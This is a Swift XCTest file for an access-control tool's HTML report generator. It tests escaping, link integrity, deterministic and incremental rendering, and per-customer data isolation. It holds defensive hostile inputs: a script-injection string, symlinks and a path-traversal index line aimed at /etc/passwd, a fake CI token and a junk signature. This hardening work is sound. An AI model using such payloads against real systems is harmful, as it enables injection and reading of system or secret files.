import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import XCTest
import AccessTestSupport

@testable import AccessBench
@testable import AccessCore
@testable import AccessFormats
@testable import AccessLedger
@testable import AccessModel
@testable import AccessPolicy
@testable import AccessReport

/// The HTML report rendered from the bundled tree: well-formed pages whose links resolve,
/// hostile text escaped everywhere, the same bytes every time, and a customer's report
/// that names nothing of another customer.
final class ReportTests: XCTestCase {
    private var work: URL!
    static let now = TestSupport.bundledRunTime
    static let hostile = "<script>alert(1)</script>\"'&"

    override func setUpWithError() throws {
        try XCTSkipUnless(SSHKeygen().isAvailable, "ssh-keygen (OpenSSH) is not installed")
        work = try TestSupport.temporaryDirectory(self)
        try TestSupport.copyBundledTree(to: work)
    }

    private func run(_ arguments: [String]) -> CommandResult {
        let templates = TestSupport.repositoryRoot.appendingPathComponent("templates").path
        return AccessCLI(environment: Fixtures.environment, currentDirectory: work.path, clock: TestSupport.clock).run(arguments + (arguments.contains("--templates") ? [] : ["--templates", templates]))
    }

    /// A pending request manifest; `reason` is written as given (quote it for YAML if needed).
    private func requestYAML(_ name: String, requester: String = "jane.doe", at time: String = "2026-11-23T02:00:00Z", resources: String, reason: String) -> String {
        """
        apiVersion: accessctl/v1
        kind: AccessRequest
        metadata:
          name: \(name)
        spec:
          requester: \(requester)
          requestedAt: \(time)
          resources: [\(resources)]
          role: support-readonly
          reason: \(reason)
          duration: 1h

        """
    }

    /// Every file of a report folder by relative path.
    private func files(_ folder: String) throws -> [String: Data] {
        let root = work.appendingPathComponent(folder)
        var out: [String: Data] = [:]
        let enumerator = try XCTUnwrap(FileManager.default.enumerator(atPath: root.path))
        for case let path as String in enumerator {
            var isFolder: ObjCBool = false
            _ = FileManager.default.fileExists(atPath: root.appendingPathComponent(path).path, isDirectory: &isFolder)
            if !isFolder.boolValue { out[path] = try Data(contentsOf: root.appendingPathComponent(path)) }
        }
        return out
    }

    private func page(_ folder: String, _ path: String) throws -> XMLDocument {
        try XMLDocument(contentsOf: work.appendingPathComponent(folder).appendingPathComponent(path), options: [.nodePreserveWhitespace])
    }

    private func texts(_ document: XMLDocument, _ xpath: String) throws -> [String] {
        try document.nodes(forXPath: xpath).map { ($0.stringValue ?? "").trimmingCharacters(in: .whitespacesAndNewlines) }
    }

    func testBundledTreeRendersWellFormedPagesWhoseLinksResolve() throws {
        let result = run(["report", "--root", "access", "--out", "site", "--now", Self.now])
        XCTAssertEqual(result.exitCode, 0, result.standardError)
        XCTAssertEqual(result.standardOutput, "Report written to site: 64 pages, 15 requests, 23 resources.\n")
        let all = try files("site")
        XCTAssertNotNil(all["style.css"])
        XCTAssertNotNil(all[ReportWriter.marker])
        var links = 0
        for (path, _) in all where path.hasSuffix(".html") {
            let document: XMLDocument
            do { document = try page("site", path) } catch { XCTFail("\(path) is not well-formed: \(error)"); continue }
            XCTAssertEqual(try texts(document, "/html/head/title").count, 1, path)
            XCTAssertEqual(try document.nodes(forXPath: "//script[@src] | //link[starts-with(@href, 'http')] | //img[starts-with(@src, 'http')]").count, 0, "\(path) loads an external asset")
            // Every relative link leads to a file of the report.
            for href in try document.nodes(forXPath: "//a/@href | //link/@href").compactMap(\.stringValue) where !href.hasPrefix("mailto:") {
                let target = URL(fileURLWithPath: path, relativeTo: URL(fileURLWithPath: "/")).deletingLastPathComponent().appendingPathComponent(href).standardized.path.dropFirst()
                XCTAssertNotNil(all[String(target)], "\(path) links to \(href), which is not in the report")
                links += 1
            }
        }
        XCTAssertGreaterThan(links, 500)

        let index = try page("site", "index.html")
        XCTAssertEqual(try texts(index, "//table[@class='requests']/tbody/tr/td[1]"), [
            "globex-gina-invoices-2026-12-01", "acme-prod-outage-2026-12-01", "initech-staging-logs-2026-11-30", "acme-staging-retainer-2027",
            "globex-prod-maintenance-2028-01", "initech-staging-retainer-2027", "initech-reporting-2027-01", "globex-login-2026-11-23", "acme-backup-debug-2026-11-22", "acme-sso-2026-11", "acme-reporting-2026-11", "globex-prod-console-2026-11-18",
            "initech-migration-2026-11", "acme-staging-restart-2026-11-10", "initech-export-2026-10-02",
        ], "sorted by last update, newest first")
        XCTAssertEqual(try texts(index, "//nav[@class='filters']//a"), [
            "All (15)", "Pending (2)", "Approved (1)", "Active (4)", "Expired (2)", "Denied (1)", "Revoked (1)", "Relinquished (1)", "Stale (2)", "Voided (1)",
        ])
        XCTAssertEqual(try texts(page("site", "requests-active.html"), "//table[@class='requests']/tbody/tr/td[1]"), [
            "globex-gina-invoices-2026-12-01", "acme-prod-outage-2026-12-01", "initech-staging-logs-2026-11-30", "acme-staging-retainer-2027",
        ])
        XCTAssertEqual(try texts(index, "//tr[td[1]='initech-staging-logs-2026-11-30']/td[6]"), ["2026-12-01 16:00 UTC12h left"])

        let request = try page("site", "requests/acme-backup-debug-2026-11-22.html")
        XCTAssertEqual(try texts(request, "//ol[@class='decisions']/li/p[@class='verification']"), [
            "✔ signature verified with the signer's key; the signer may decide under the policy",
            "✔ signature verified with the signer's key; the signer may decide under the policy",
        ])
        XCTAssertEqual(try texts(page("site", "requests/acme-sso-2026-11.html"), "//ol[@class='decisions']/li/p[@class='verification']"),
                       ["✘ void: the request's spec changed after this decision was signed; it needs a new decision"])
        let resource = try page("site", "resources/site/acme-staging.html")
        XCTAssertTrue(try texts(resource, "//table[@class='access']/tbody/tr/td[1]").contains("Lena Kraus lena.kraus"))
        XCTAssertEqual(try texts(resource, "//table[@class='access']/tbody/tr[td[1]='Lena Kraus lena.kraus']/td[3]"),
                       ["request acme-staging-retainer-2027 (approved by bob.owens) → role consultant"])
        XCTAssertEqual(try texts(page("site", "administrators.html"), "//table[@class='administrators']/tbody/tr/td[1]"),
                       ["Maria Lopez maria.lopez", "Tom Becker tom.becker"])
        // The trusted configuration, as the audit log's configuration.trusted event has it.
        let trusted = try XCTUnwrap(try String(contentsOf: TestSupport.fixtures.appendingPathComponent("bundled/log.jsonl"), encoding: .utf8)
            .split(separator: "\n").first { $0.contains("\"configuration.trusted\"") })
        let digest = try XCTUnwrap(JSONParser.parse(String(trusted)).json["details"]?["digest"]?.stringValue)
        XCTAssertEqual(try texts(page("site", "administrators.html"), "//dl[@class='trust']/dd"), [
            digest, "2026-12-01 04:00 UTC", "signed by 2 of 2 administrator signatures", "Maria Lopez maria.lopezTom Becker tom.becker",
        ])
        let audit = try page("site", "audit.html")
        XCTAssertEqual(try texts(audit, "//p[@class='chain ok']"), ["✔ The audit log's hash chain verifies: each of its 57 events carries the hash of the one before."])
        XCTAssertEqual(try texts(audit, "//table[@class='events']/tbody/tr/td[1]").first, "57", "newest first")
    }

    /// A resource page lists only actions the resource's type has, and says "through" a
    /// parent only when the grant was not made on the resource itself.
    func testResourcePagesShowTheTypesActionsAndDirectGrants() throws {
        XCTAssertEqual(run(["report", "--root", "access", "--out", "site", "--now", Self.now]).exitCode, 0)
        func rows(_ path: String) throws -> [String] {
            try page("site", path).nodes(forXPath: "//table[@class='access']/tbody/tr").map { row in
                try row.nodes(forXPath: "td").map { ($0.stringValue ?? "").components(separatedBy: .whitespacesAndNewlines).filter { !$0.isEmpty }.joined(separator: " ") }
                    .joined(separator: " | ")
            }
        }
        let site = try rows("resources/site/acme-prod.html")
        // customer-admin's rule over account:* names admin and billing, which a site does not have.
        XCTAssertTrue(site.contains("Alice Nguyen alice.nguyen | read, write | binding acme-admins-own-account → role customer-admincovers it through account:acme | no end"), "\(site)")
        // deploy-bot's binding names site:* itself: direct, though its role's rule is written for sites.
        XCTAssertTrue(site.contains { $0.hasPrefix("Deployment pipeline deploy-bot | deploy, read | binding deploy-bot-sites → role deployer |") }, "\(site)")
        let staging = try rows("resources/site/acme-staging.html")
        XCTAssertTrue(staging.contains { $0.hasPrefix("Lena Kraus lena.kraus | read, write | request acme-staging-retainer-2027 (approved by bob.owens) → role consultant |") }, "\(staging)")
        for row in site + staging { XCTAssertFalse(row.contains("billing") || row.contains("admin,"), row) }
    }

    /// A decision the report's run did not verify is never shown as verified.
    func testDecisionsNotReVerifiedAreLabelledSo() throws {
        XCTAssertEqual(run(["report", "--root", "access", "--out", "site", "--now", Self.now]).exitCode, 0)
        // Requested 2026-11-10 under a 3-day requestTTL and over since: closed, so not re-verified.
        XCTAssertEqual(try texts(page("site", "requests/acme-staging-restart-2026-11-10.html"), "//ol[@class='decisions']/li/p[@class='verification']"), [
            "– signature not re-verified: the request closed before the report's time, so this decision can no longer change access",
            "– signature not re-verified: the request closed before the report's time, so this decision can no longer change access",
        ])
    }

    func testSameInputGivesTheSameBytes() throws {
        XCTAssertEqual(run(["report", "--root", "access", "--out", "one", "--now", Self.now]).exitCode, 0)
        XCTAssertEqual(run(["report", "--root", "access", "--out", "two", "--now", Self.now]).exitCode, 0)
        // The root spelled another way (absolute) changes nothing either: pages name files inside the tree.
        XCTAssertEqual(run(["report", "--root", work.appendingPathComponent("access").path, "--out", "two", "--now", Self.now]).exitCode, 0)
        let one = try files("one"), two = try files("two")
        XCTAssertEqual(one.keys.sorted(), two.keys.sorted())
        for (path, data) in one { XCTAssertEqual(data, two[path], path) }
        XCTAssertEqual(try texts(page("one", "requests/acme-backup-debug-2026-11-22.html"), "//dt[.='File in the tree']/following-sibling::dd[1]"),
                       ["requests/support-eu/acme-backup-debug-2026-11-22.yaml"])
        // A second run replaces the first report whole.
        XCTAssertEqual(run(["report", "--root", "access", "--out", "one", "--now", "2026-12-05T00:00:00Z"]).exitCode, 0)
        XCTAssertNotEqual(try files("one")["index.html"], two["index.html"])
    }

    /// The page with its "last changed" time taken out: the one thing an unchanged page keeps
    /// from the run that wrote it.
    private func withoutChangeTime(_ data: Data) -> String {
        String(decoding: data, as: UTF8.self).replacingOccurrences(of: #"its content last changed at <time datetime="[^"]*">[^<]*</time>"#, with: "", options: .regularExpression)
    }

    private func inode(_ folder: String, _ path: String) throws -> UInt64 {
        let attributes = try FileManager.default.attributesOfItem(atPath: work.appendingPathComponent(folder).appendingPathComponent(path).path)
        return try XCTUnwrap((attributes[.systemFileNumber] as? NSNumber)?.uint64Value)
    }

    private func copy(_ from: String, _ to: String) throws {
        try? FileManager.default.removeItem(at: work.appendingPathComponent(to))
        try FileManager.default.copyItem(at: work.appendingPathComponent(from), to: work.appendingPathComponent(to))
    }

    func testIncrementalReportIsTheSameBytesAsAFullRender() throws {
        let later = "2026-12-01T06:30:00Z"
        XCTAssertEqual(run(["report", "--root", "access", "--out", "site", "--now", Self.now]).exitCode, 0)
        try copy("site", "earlier")
        let keptBefore = try inode("site", "requests/acme-backup-debug-2026-11-22.html")
        // Ninety minutes on, and one pending request's reason edited: the remaining times and
        // that request's pages change, closed requests' pages do not.
        let path = work.appendingPathComponent("access/requests/support-eu/globex-prod-maintenance-2028-01.yaml")
        let manifest = try String(contentsOf: path, encoding: .utf8)
        let edited = manifest.replacingOccurrences(of: "  reason: ", with: "  reason: Edited. ")
        XCTAssertNotEqual(edited, manifest)
        try edited.write(to: path, atomically: true, encoding: .utf8)

        let incremental = run(["report", "--root", "access", "--out", "site", "--now", later])
        XCTAssertEqual(incremental.exitCode, 0, incremental.standardError)
        let kept = try XCTUnwrap(incremental.standardOutput.firstMatch(of: /64 pages \((\d+) unchanged\)/)).1
        XCTAssertGreaterThan(Int(kept)!, 10, incremental.standardOutput)
        XCTAssertLessThan(Int(kept)!, 60, incremental.standardOutput)
        // An unchanged page is the earlier file itself (a hard link), not rendered again.
        XCTAssertEqual(try inode("site", "requests/acme-backup-debug-2026-11-22.html"), keptBefore)
        XCTAssertNotEqual(try inode("site", "requests/globex-prod-maintenance-2028-01.html"), try inode("earlier", "requests/globex-prod-maintenance-2028-01.html"))

        // --full from the same earlier report renders every page: the same bytes, file by file.
        try copy("earlier", "full")
        let full = run(["report", "--root", "access", "--out", "full", "--now", later, "--full"])
        XCTAssertEqual(full.standardOutput, "Report written to full: 64 pages, 15 requests, 23 resources.\n")
        let a = try files("site"), b = try files("full")
        XCTAssertEqual(a.keys.sorted(), b.keys.sorted())
        for (path, data) in a { XCTAssertEqual(data, b[path], path) }

        // A report made from nothing at the same time shows the same on every page; only the
        // time a kept page last changed differs, and it is the earlier run's.
        XCTAssertEqual(run(["report", "--root", "access", "--out", "fresh", "--now", later]).exitCode, 0)
        let fresh = try files("fresh")
        XCTAssertEqual(fresh.keys.sorted(), a.keys.sorted())
        var older = 0
        for (path, data) in fresh where path.hasSuffix(".html") {
            XCTAssertEqual(withoutChangeTime(data), withoutChangeTime(a[path]!), path)
            if data != a[path]! {
                older += 1
                XCTAssertTrue(String(decoding: a[path]!, as: UTF8.self).contains(#"last changed at <time datetime="2026-12-01T04:00:00Z">2026-12-01 04:00 UTC</time>"#), path)
            }
        }
        XCTAssertEqual(String(older), String(kept))
        XCTAssertEqual(try texts(page("site", "requests/globex-prod-maintenance-2028-01.html"), "//dd[@class='reason']").first?.hasPrefix("Edited. "), true)
        // The front page always says when the report was made and when access was reconciled.
        XCTAssertTrue(String(decoding: a["index.html"]!, as: UTF8.self).contains(#"Report generated by accessctl at <time datetime="2026-12-01T06:30:00Z">"#))
    }

    /// Renders `site` again at `now` keeping unchanged pages, and the same earlier report
    /// again with `--full`: both must be the same bytes, file by file. Returns how many pages
    /// were kept.
    private func incrementalMatchesFull(_ now: String, file: StaticString = #filePath, line: UInt = #line) throws -> Int {
        try copy("site", "before")
        let incremental = run(["report", "--root", "access", "--out", "site", "--now", now])
        XCTAssertEqual(incremental.exitCode, 0, incremental.standardError, file: file, line: line)
        try copy("before", "full")
        XCTAssertEqual(run(["report", "--root", "access", "--out", "full", "--now", now, "--full"]).exitCode, 0, file: file, line: line)
        let a = try files("site"), b = try files("full")
        XCTAssertEqual(a.keys.sorted(), b.keys.sorted(), file: file, line: line)
        for (path, data) in a { XCTAssertEqual(data, b[path], path, file: file, line: line) }
        // The earlier folder, moved aside, is removed whole.
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: work.path).filter { $0.contains(".accessctl-") }, [], file: file, line: line)
        let kept = incremental.standardOutput.firstMatch(of: /\((\d+) unchanged\)/).map { Int($0.1)! } ?? 0
        XCTAssertGreaterThan(kept, 0, incremental.standardOutput, file: file, line: line)
        return kept
    }

    /// A page's digest covers an event's or a request's row by the row's own digest, made once
    /// for all the pages showing it. Each kind of change that reaches those rows re-renders
    /// every page that shows them: a person's name (in every event and request row naming
    /// them), a request's reason (its row on the lists), new events, and time passing (the
    /// time left on a request's row).
    func testEveryChangeToASharedRowReachesEveryPageShowingIt() throws {
        XCTAssertEqual(run(["reconcile", "--root", "access", "--now", Self.now, "--report", "site"]).exitCode, 0)
        let pages = try files("site").keys.filter { $0.hasSuffix(".html") }.count
        XCTAssertEqual(try incrementalMatchesFull(Self.now), pages)
        // Events appended by a later run (before the change to the configuration below, which
        // is not signed: runs after it stop at the configuration's trust).
        let events = try String(contentsOf: work.appendingPathComponent("access/audit/log.jsonl"), encoding: .utf8).split(separator: "\n").count
        try TestSupport.write(["access/requests/new-one.yaml": requestYAML("new-one", resources: "site:acme-prod", reason: "A new request")], under: work)
        let later = run(["reconcile", "--root", "access", "--now", Self.now])
        XCTAssertEqual(later.exitCode, 0, later.standardOutput + later.standardError)
        XCTAssertGreaterThan(try String(contentsOf: work.appendingPathComponent("access/audit/log.jsonl"), encoding: .utf8).split(separator: "\n").count, events)
        XCTAssertLessThan(try incrementalMatchesFull("2026-12-01T05:00:00Z"), pages + 1)

        let jane = work.appendingPathComponent("access/principals/jane.doe.yaml")
        try String(contentsOf: jane, encoding: .utf8).replacingOccurrences(of: "displayName: Jane Doe", with: "displayName: Jane Renamed").write(to: jane, atomically: true, encoding: .utf8)
        XCTAssertLessThan(try incrementalMatchesFull("2026-12-01T05:00:00Z"), pages)
        for path in ["audit.html", "index.html", "requests/acme-backup-debug-2026-11-22.html", "resources/site/acme-prod.html"] {
            let text = String(decoding: try files("site")[path] ?? Data(), as: UTF8.self)
            XCTAssertTrue(text.contains("Jane Renamed"), path)
            XCTAssertFalse(text.contains("Jane Doe"), path)
        }

        let request = work.appendingPathComponent("access/requests/support-eu/globex-prod-maintenance-2028-01.yaml")
        try String(contentsOf: request, encoding: .utf8).replacingOccurrences(of: "  reason: ", with: "  reason: Edited. ").write(to: request, atomically: true, encoding: .utf8)
        XCTAssertLessThan(try incrementalMatchesFull("2026-12-01T05:00:00Z"), pages)
        XCTAssertTrue(String(decoding: try files("site")["index.html"]!, as: UTF8.self).contains("Edited. "))

        XCTAssertLessThan(try incrementalMatchesFull("2026-12-01T07:30:00Z"), pages)
    }

    /// A report written by the version whose digests covered every row in full (index version
    /// 1) is not rendered whole with every page marked changed: a page is kept, with its
    /// earlier change time, when it renders to the earlier file's bytes. The result is the
    /// same folder as from an index of this version.
    func testAnEarlierVersionsIndexKeepsThePagesWhoseBytesAreTheSame() throws {
        XCTAssertEqual(run(["reconcile", "--root", "access", "--now", Self.now, "--report", "site"]).exitCode, 0)
        try copy("site", "current")
        let indexFile = work.appendingPathComponent("site").appendingPathComponent(ReportIndex.fileName)
        var lines = try String(contentsOf: indexFile, encoding: .utf8).split(separator: "\n").map(String.init)
        XCTAssertEqual(lines[0], "accessctl-report-pages 2")
        // The first version's header, and digests this version could never match.
        lines[0] = "accessctl-report-pages 1"
        for i in lines.indices.dropFirst() { lines[i] = String(repeating: "0", count: 64) + lines[i].dropFirst(64) }
        try (lines.joined(separator: "\n") + "\n").write(to: indexFile, atomically: true, encoding: .utf8)

        let request = work.appendingPathComponent("access/requests/support-eu/globex-prod-maintenance-2028-01.yaml")
        try String(contentsOf: request, encoding: .utf8).replacingOccurrences(of: "  reason: ", with: "  reason: Edited. ").write(to: request, atomically: true, encoding: .utf8)
        let later = "2026-12-01T06:30:00Z"
        let earlier = run(["report", "--root", "access", "--out", "site", "--now", later])
        let current = run(["report", "--root", "access", "--out", "current", "--now", later])
        XCTAssertEqual(earlier.exitCode, 0, earlier.standardError)
        XCTAssertEqual(earlier.standardOutput.replacingOccurrences(of: "site", with: "current"), current.standardOutput)
        let kept = try XCTUnwrap(current.standardOutput.firstMatch(of: /\((\d+) unchanged\)/)).1
        XCTAssertGreaterThan(Int(kept)!, 10, current.standardOutput)
        XCTAssertEqual(try files("site"), try files("current"))
        XCTAssertTrue(try String(contentsOf: indexFile, encoding: .utf8).hasPrefix("accessctl-report-pages 2\n"))
    }

    func testAPageChangedByHandOrADamagedIndexIsRenderedAgain() throws {
        XCTAssertEqual(run(["report", "--root", "access", "--out", "site", "--now", Self.now]).exitCode, 0)
        let original = try files("site")
        let folder = work.appendingPathComponent("site")
        // A page edited by hand (another size), and one replaced by a symlink, are rendered
        // again; everything else is kept.
        try Data("<p>edited</p>".utf8).write(to: folder.appendingPathComponent("administrators.html"))
        try Data("<p>edited</p>".utf8).write(to: folder.appendingPathComponent("requests/acme-backup-debug-2026-11-22.html"))
        try FileManager.default.removeItem(at: folder.appendingPathComponent("people/jane.doe.html"))
        try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("people/jane.doe.html").path, withDestinationPath: "/etc/passwd")
        let again = run(["report", "--root", "access", "--out", "site", "--now", Self.now])
        XCTAssertEqual(again.standardOutput, "Report written to site: 64 pages (61 unchanged), 15 requests, 23 resources.\n")
        XCTAssertEqual(try files("site"), original)
        XCTAssertEqual(Platform.kind(ofLink: folder.appendingPathComponent("people/jane.doe.html").path), .regular)

        // An index that does not parse (here: a line pointing outside the folder) is ignored whole.
        let indexFile = folder.appendingPathComponent(ReportIndex.fileName)
        var index = try String(contentsOf: indexFile, encoding: .utf8)
        index += String(repeating: "0", count: 64) + " 2026-12-01T04:00:00Z 10 ../../etc/passwd.html\n"
        try index.write(to: indexFile, atomically: true, encoding: .utf8)
        let whole = run(["report", "--root", "access", "--out", "site", "--now", Self.now])
        XCTAssertEqual(whole.standardOutput, "Report written to site: 64 pages, 15 requests, 23 resources.\n")
        XCTAssertEqual(try files("site"), original)
    }

    func testHostileReasonIsEscapedEverywhere() throws {
        let request = requestYAML("hostile-2026-11-23", resources: "site:acme-prod", reason: #""<script>alert(1)</script>\"'&""#)
        try TestSupport.write(["access/requests/hostile-2026-11-23.yaml": request], under: work)
        // Through reconcile --report, so the audit log carries the reason too.
        let result = run(["reconcile", "--root", "access", "--now", Self.now, "--report", "site"])
        XCTAssertEqual(result.exitCode, 0, result.standardError)
        XCTAssertTrue(result.standardOutput.hasSuffix("Report written to site: 65 pages, 16 requests, 23 resources.\n"), result.standardOutput)
        let escaped = "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&amp;"
        var pagesWithIt: [String] = []
        for (path, data) in try files("site") where path.hasSuffix(".html") {
            let html = String(decoding: data, as: UTF8.self)
            XCTAssertFalse(html.contains("<script>alert"), "\(path) prints the reason unescaped")
            XCTAssertFalse(html.contains("alert(1)</script>"), path)
            if html.contains(escaped) { pagesWithIt.append(path) }
            XCTAssertNoThrow(try page("site", path), path)
        }
        XCTAssertEqual(pagesWithIt.sorted(), [
            "audit.html", "index.html", "people/jane.doe.html", "requests-pending.html", "requests/hostile-2026-11-23.html", "resources/site/acme-prod.html",
        ])
        // Parsed back, the text is exactly what was written.
        let document = try page("site", "requests/hostile-2026-11-23.html")
        XCTAssertEqual(try texts(document, "//dd[@class='reason']"), [Self.hostile])
        XCTAssertEqual(try texts(page("site", "index.html"), "//tr[td[1]='hostile-2026-11-23']/td[4]"), [Self.hostile])
    }

    func testCustomerReportNamesNothingOfAnotherCustomer() throws {
        let result = run(["report", "--root", "access", "--out", "acme", "--now", Self.now, "--for", "acme-admins"])
        XCTAssertEqual(result.exitCode, 0, result.standardError)
        XCTAssertEqual(result.standardOutput, "Report for team acme-admins written to acme: 30 pages, 6 requests, 6 resources.\n")
        XCTAssertEqual(run(["report", "--root", "access", "--out", "all", "--now", Self.now]).exitCode, 0)

        // Strings from the manifests of the other customers (Globex, Initech) that no manifest
        // about Acme or the vendor also holds.
        let tree = TreeLoader.load(root: work.appendingPathComponent("access").path, displayRoot: "access").tree
        let foreignOwners: Set<String> = ["globex-admins", "initech-admins"]
        let foreignResources = Set(tree.resources.filter { foreignOwners.contains($0.owner.value) }.map(\.ref))
        var foreign = Set<String>(), own = Set<String>()
        for team in tree.teams {
            let strings = [team.id, team.displayName, team.description].compactMap { $0 }
            if foreignOwners.contains(team.id) { foreign.formUnion(strings) } else { own.formUnion(strings) }
        }
        for resource in tree.resources {
            let strings = [resource.header.id, resource.ref.description, resource.displayName].compactMap { $0 } + resource.attributes.map(\.value)
            if foreignResources.contains(resource.ref) { foreign.formUnion(strings) } else { own.formUnion(strings) }
        }
        for principal in tree.principals {
            let strings = [principal.id, principal.displayName, principal.email].compactMap { $0 }
            if !principal.teams.isEmpty, principal.teams.allSatisfy({ foreignOwners.contains($0.value) }) { foreign.formUnion(strings) } else { own.formUnion(strings) }
        }
        for request in tree.requests {
            let strings = [request.id, request.spec.reason.value] + request.decisions.compactMap(\.reason)
            if request.spec.resources.allSatisfy({ foreignResources.contains($0.value) }) { foreign.formUnion(strings) } else { own.formUnion(strings) }
        }
        for binding in tree.bindings {
            let strings = [binding.id, binding.description].compactMap { $0 }
            if binding.resources.allSatisfy({ ResourceRef($0.value.text).map(foreignResources.contains) ?? false }) { foreign.formUnion(strings) } else { own.formUnion(strings) }
        }
        foreign.subtract(own)
        // Two-letter attribute values such as a region code would match anywhere.
        foreign = foreign.filter { $0.count >= 4 }
        XCTAssertTrue(foreign.isSuperset(of: ["globex-prod", "Gary Chen", "gary.chen@globex.example", "Initech administrators", "globex-login-2026-11-23"]), "\(foreign.sorted())")
        XCTAssertGreaterThan(foreign.count, 40)

        func occurrences(_ folder: String) throws -> Set<String> {
            var found = Set<String>()
            for (_, data) in try files(folder) {
                let text = String(decoding: data, as: UTF8.self)
                for string in foreign where text.contains(HTML.escape(string)) { found.insert(string) }
            }
            return found
        }
        XCTAssertEqual(try occurrences("acme").sorted(), [], "the Acme report names another customer's data")
        // The check can fail: the whole organization's report names them.
        XCTAssertGreaterThan(try occurrences("all").count, 30)

        // What Acme does see: its requests, its resources, the people who reach them, the administrators.
        XCTAssertEqual(try texts(page("acme", "index.html"), "//table[@class='requests']/tbody/tr/td[1]"),
                       ["acme-prod-outage-2026-12-01", "acme-staging-retainer-2027", "acme-backup-debug-2026-11-22", "acme-sso-2026-11", "acme-reporting-2026-11", "acme-staging-restart-2026-11-10"])
        XCTAssertEqual(try texts(page("acme", "resources/index.html"), "//tbody/tr/td[1]"), ["account:acme", "company:acme-eu", "principal:alice.nguyen", "principal:bob.owens", "site:acme-prod", "site:acme-staging"])
        XCTAssertEqual(try texts(page("acme", "administrators.html"), "//table[@class='administrators']/tbody/tr/td[1]"), ["Maria Lopez maria.lopez", "Tom Becker tom.becker"])
        XCTAssertEqual(try texts(page("acme", "audit.html"), "//dl/dd[2]"), ["28 of 57 events: those that concern the resources in this report."])
    }

    /// Hardening finding 9: a request may not span two owner teams, so no reason is shown to a
    /// customer it was not written for; a junk approval naming another customer's resource
    /// does not pull a request into that customer's report.
    func testRequestSpanningTwoCustomersIsRefusedAndJunkTermsPullNothingIn() throws {
        try TestSupport.write(["access/requests/both-2026-11-23.yaml": requestYAML(
            "both-2026-11-23", resources: "site:acme-prod, site:globex-prod", reason: "Compare the two production sites, ticket 4700")], under: work)
        let run1 = run(["reconcile", "--root", "access", "--now", Self.now])
        XCTAssertEqual(run1.exitCode, 1)
        XCTAssertTrue(run1.standardError.contains("access/requests/both-2026-11-23.yaml:8:31: error: resource 'site:globex-prod' is owned by team 'globex-admins' but 'site:acme-prod' by 'acme-admins': one request may ask only for resources of one owner team"), run1.standardError)
        try FileManager.default.removeItem(at: work.appendingPathComponent("access/requests/both-2026-11-23.yaml"))
        // A Globex request with a junk approval (not a valid signature) whose terms name Acme's site.
        try TestSupport.write(["access/requests/globex-junk-2026-11-23.yaml": requestYAML(
            "globex-junk-2026-11-23", resources: "site:globex-prod", reason: "Globex only, ticket 4701") + """
            status:
              decisions:
                - decision: approve
                  by: gary.chen
                  at: 2026-11-23T09:00:00Z
                  terms:
                    validFrom: 2026-11-23T09:00:00Z
                    validTo: 2026-11-23T10:00:00Z
                    resources: [site:acme-prod]
                  specDigest: sha256:0000000000000000000000000000000000000000000000000000000000000000
                  signature: |
                    -----BEGIN SSH SIGNATURE-----
                    U1NIU0lHAAAAAQ==
                    -----END SSH SIGNATURE-----

            """], under: work)
        _ = run(["reconcile", "--root", "access", "--now", Self.now])
        _ = run(["report", "--root", "access", "--out", "acme", "--now", Self.now, "--for", "acme-admins"])
        for (path, data) in try files("acme") {
            let text = String(decoding: data, as: UTF8.self)
            XCTAssertFalse(text.contains("globex-junk") || text.contains("ticket 4701"), "\(path) shows the Globex request")
        }
    }

    func testBrokenAuditLogIsReportedOnTheAuditPage() throws {
        let log = work.appendingPathComponent("access/audit/log.jsonl")
        var lines = try String(contentsOf: log, encoding: .utf8).components(separatedBy: "\n")
        lines[4] = lines[4].replacingOccurrences(of: "2026-12-01T04:00:00Z", with: "2026-12-01T04:00:01Z")
        try lines.joined(separator: "\n").write(to: log, atomically: true, encoding: .utf8)
        let result = run(["report", "--root", "access", "--out", "site", "--now", Self.now])
        XCTAssertEqual(result.exitCode, 1, "a log that does not verify fails the run, but the report is written")
        XCTAssertTrue(result.standardError.contains("access/audit/log.jsonl:5:1: error: the audit log's chain is broken at line 5"), result.standardError)
        let alert = try texts(page("site", "audit.html"), "//p[@class='chain broken']")
        XCTAssertEqual(alert.count, 1)
        XCTAssertTrue(alert[0].hasPrefix("✘ The audit log does not verify: access/audit/log.jsonl:5:1: error: the audit log's chain is broken at line 5"), alert[0])
    }

    func testRefusesToReplaceAFolderItDidNotWrite() throws {
        try TestSupport.write(["notes/keep.txt": "mine"], under: work)
        let result = run(["report", "--root", "access", "--out", "notes", "--now", Self.now])
        XCTAssertEqual(result.exitCode, 1)
        XCTAssertTrue(result.standardError.hasSuffix("notes: error: this folder is not empty and does not hold an earlier report (no .accessctl-report file); give --out a new or empty folder, which each run replaces\n"), result.standardError)
        XCTAssertEqual(try files("notes").keys.sorted(), ["keep.txt"])
        let file = run(["report", "--root", "access", "--out", "notes/keep.txt", "--now", Self.now])
        XCTAssertEqual(file.exitCode, 1)
        XCTAssertTrue(file.standardError.hasSuffix("notes/keep.txt: error: this is a file, not a folder: --out needs a folder for the report\n"), file.standardError)
    }

    /// Hardening finding 8 (in part): a symlink in the templates folder (to /etc/passwd, say)
    /// is refused, never copied into the published report.
    func testASymlinkInTheTemplatesFolderIsRefused() throws {
        let templates = work.appendingPathComponent("mine")
        try FileManager.default.copyItem(at: TestSupport.repositoryRoot.appendingPathComponent("templates"), to: templates)
        let secret = work.appendingPathComponent("secret.txt")
        try Data("CI_TOKEN=hunter2\n".utf8).write(to: secret)
        try FileManager.default.createSymbolicLink(atPath: templates.appendingPathComponent("passwd.css").path, withDestinationPath: secret.path)
        let result = run(["report", "--root", "access", "--out", "site", "--now", Self.now, "--templates", "mine"])
        XCTAssertEqual(result.exitCode, 1)
        XCTAssertTrue(result.standardError.hasSuffix("mine/passwd.css: error: is a symlink or special file; templates and assets must be regular files in the templates folder\n"), result.standardError)
        XCTAssertFalse(result.standardError.contains("hunter2"))
        XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("site").path))
    }

    /// Hardening finding 8: every page carries a Content-Security-Policy, put first in its head
    /// by accessctl, that allows the report's own script by its hash and nothing else; a
    /// script added to a template is published but cannot run.
    func testEveryPageAllowsOnlyTheReportsOwnScript() throws {
        let templates = work.appendingPathComponent("mine")
        try FileManager.default.copyItem(at: TestSupport.repositoryRoot.appendingPathComponent("templates"), to: templates)
        let layout = templates.appendingPathComponent("layout.mustache")
